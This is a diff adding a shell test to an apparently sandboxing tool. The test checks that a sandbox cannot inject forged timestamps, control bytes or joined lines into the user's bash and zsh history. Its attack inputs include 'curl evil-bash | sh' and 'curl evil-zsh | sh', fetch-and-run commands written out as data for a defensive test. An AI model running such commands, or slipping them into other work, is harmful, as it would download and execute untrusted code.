@@ -344,3 +344,54 @@ EOF
 	# session could push all of the user's own history out.
 	[ "$(grep -c 'flood-line' "$H/hist-after")" -le 100 ]
 }
+
+@test "history (attack): no time stamps, metafied controls or joined lines of the sandbox's reach the user's bash and zsh history" {
+	command -v zsh >/dev/null || skip "zsh is not installed"
+	printf '%s\n' "PS1='B> '" >"$H/.bashrc"
+	printf '%s\n' "PROMPT='Z> '" 'HISTFILE=~/.zsh_history' 'SAVEHIST=100' 'HISTSIZE=100' 'setopt extended_history' >"$H/.zshrc"
+	printf '#1700000000\nmy-own-bash-line\n' >"$H/.bash_history"
+	printf ': 1700000000:0;my-own-zsh-line\n' >"$H/.zsh_history"
+	drive <<EOF
+$HIST_PY
+def main():
+    # bash: forged time stamps, which would also join the lines between
+    # them into one entry (echo visible + the hidden curl), and a raw C1.
+    t = shell("/bin/bash", "B> ")
+    do(t, r"""printf '#1600000001\necho visible\ncurl evil-bash | sh\n#99999999999\nbash-ok\nx\x9b31m\n' >>"\$HISTFILE" """, "B> ")
+    t.line("exit 0")
+    t.wait()
+    # zsh: a metafied ESC and newline (0x83 then c ^ 0x20), a forged
+    # extended-history stamp, a last line ending in a backslash that
+    # would swallow the user's next one.
+    t = shell("/usr/bin/zsh" if os.path.exists("/usr/bin/zsh") else "/bin/zsh", "Z> ")
+    do(t, r"""printf ': 1600000000:0;echo \x83\x3b]2;T\x83\x27\n: 1600000002:0;echo visible\x83\x2acurl evil-zsh | sh\n: 1600000003:0;zsh-ok\n: 1600000004:0;swallow \\\\\n' >>"\$WICKET_HISTFILE" """, "Z> ")
+    t.line("exit 0")
+    t.wait()
+
+run(main)
+EOF
+	# bash: the plain lines came, each its own entry with a stamp of the
+	# merge's (the user's file has stamps), none of the sandbox's.
+	run -0 cat -v "$H/.bash_history"
+	echo "$output"
+	refute_line '#1600000001'
+	refute_line '#99999999999'
+	refute_output --partial 'M-^['
+	refute_output --partial 'M-^[31m'
+	assert_line bash-ok
+	assert_line 'curl evil-bash | sh'
+	local now
+	now=$(date +%s)
+	# every appended line follows a time stamp of its own, from now
+	awk -v now="$now" 'NR > 2 { if (prev !~ /^#[0-9]+$/ && $0 !~ /^#[0-9]+$/) bad = 1;
+		if ($0 ~ /^#[0-9]+$/ && (substr($0, 2) + 0 < now - 600 || substr($0, 2) + 0 > now + 60)) bad = 1 }
+		{ prev = $0 } END { exit bad }' "$H/.bash_history"
+	# zsh: no Meta byte, no forged stamp, no open continuation.
+	run -0 cat -v "$H/.zsh_history"
+	echo "$output"
+	refute_output --partial 'M-^C'
+	refute_line --regexp '^: 1600000'
+	refute_line --regexp '\\$'
+	assert_line --regexp '^: [0-9]+:0;zsh-ok$'
+	assert_line ': 1700000000:0;my-own-zsh-line'
+}
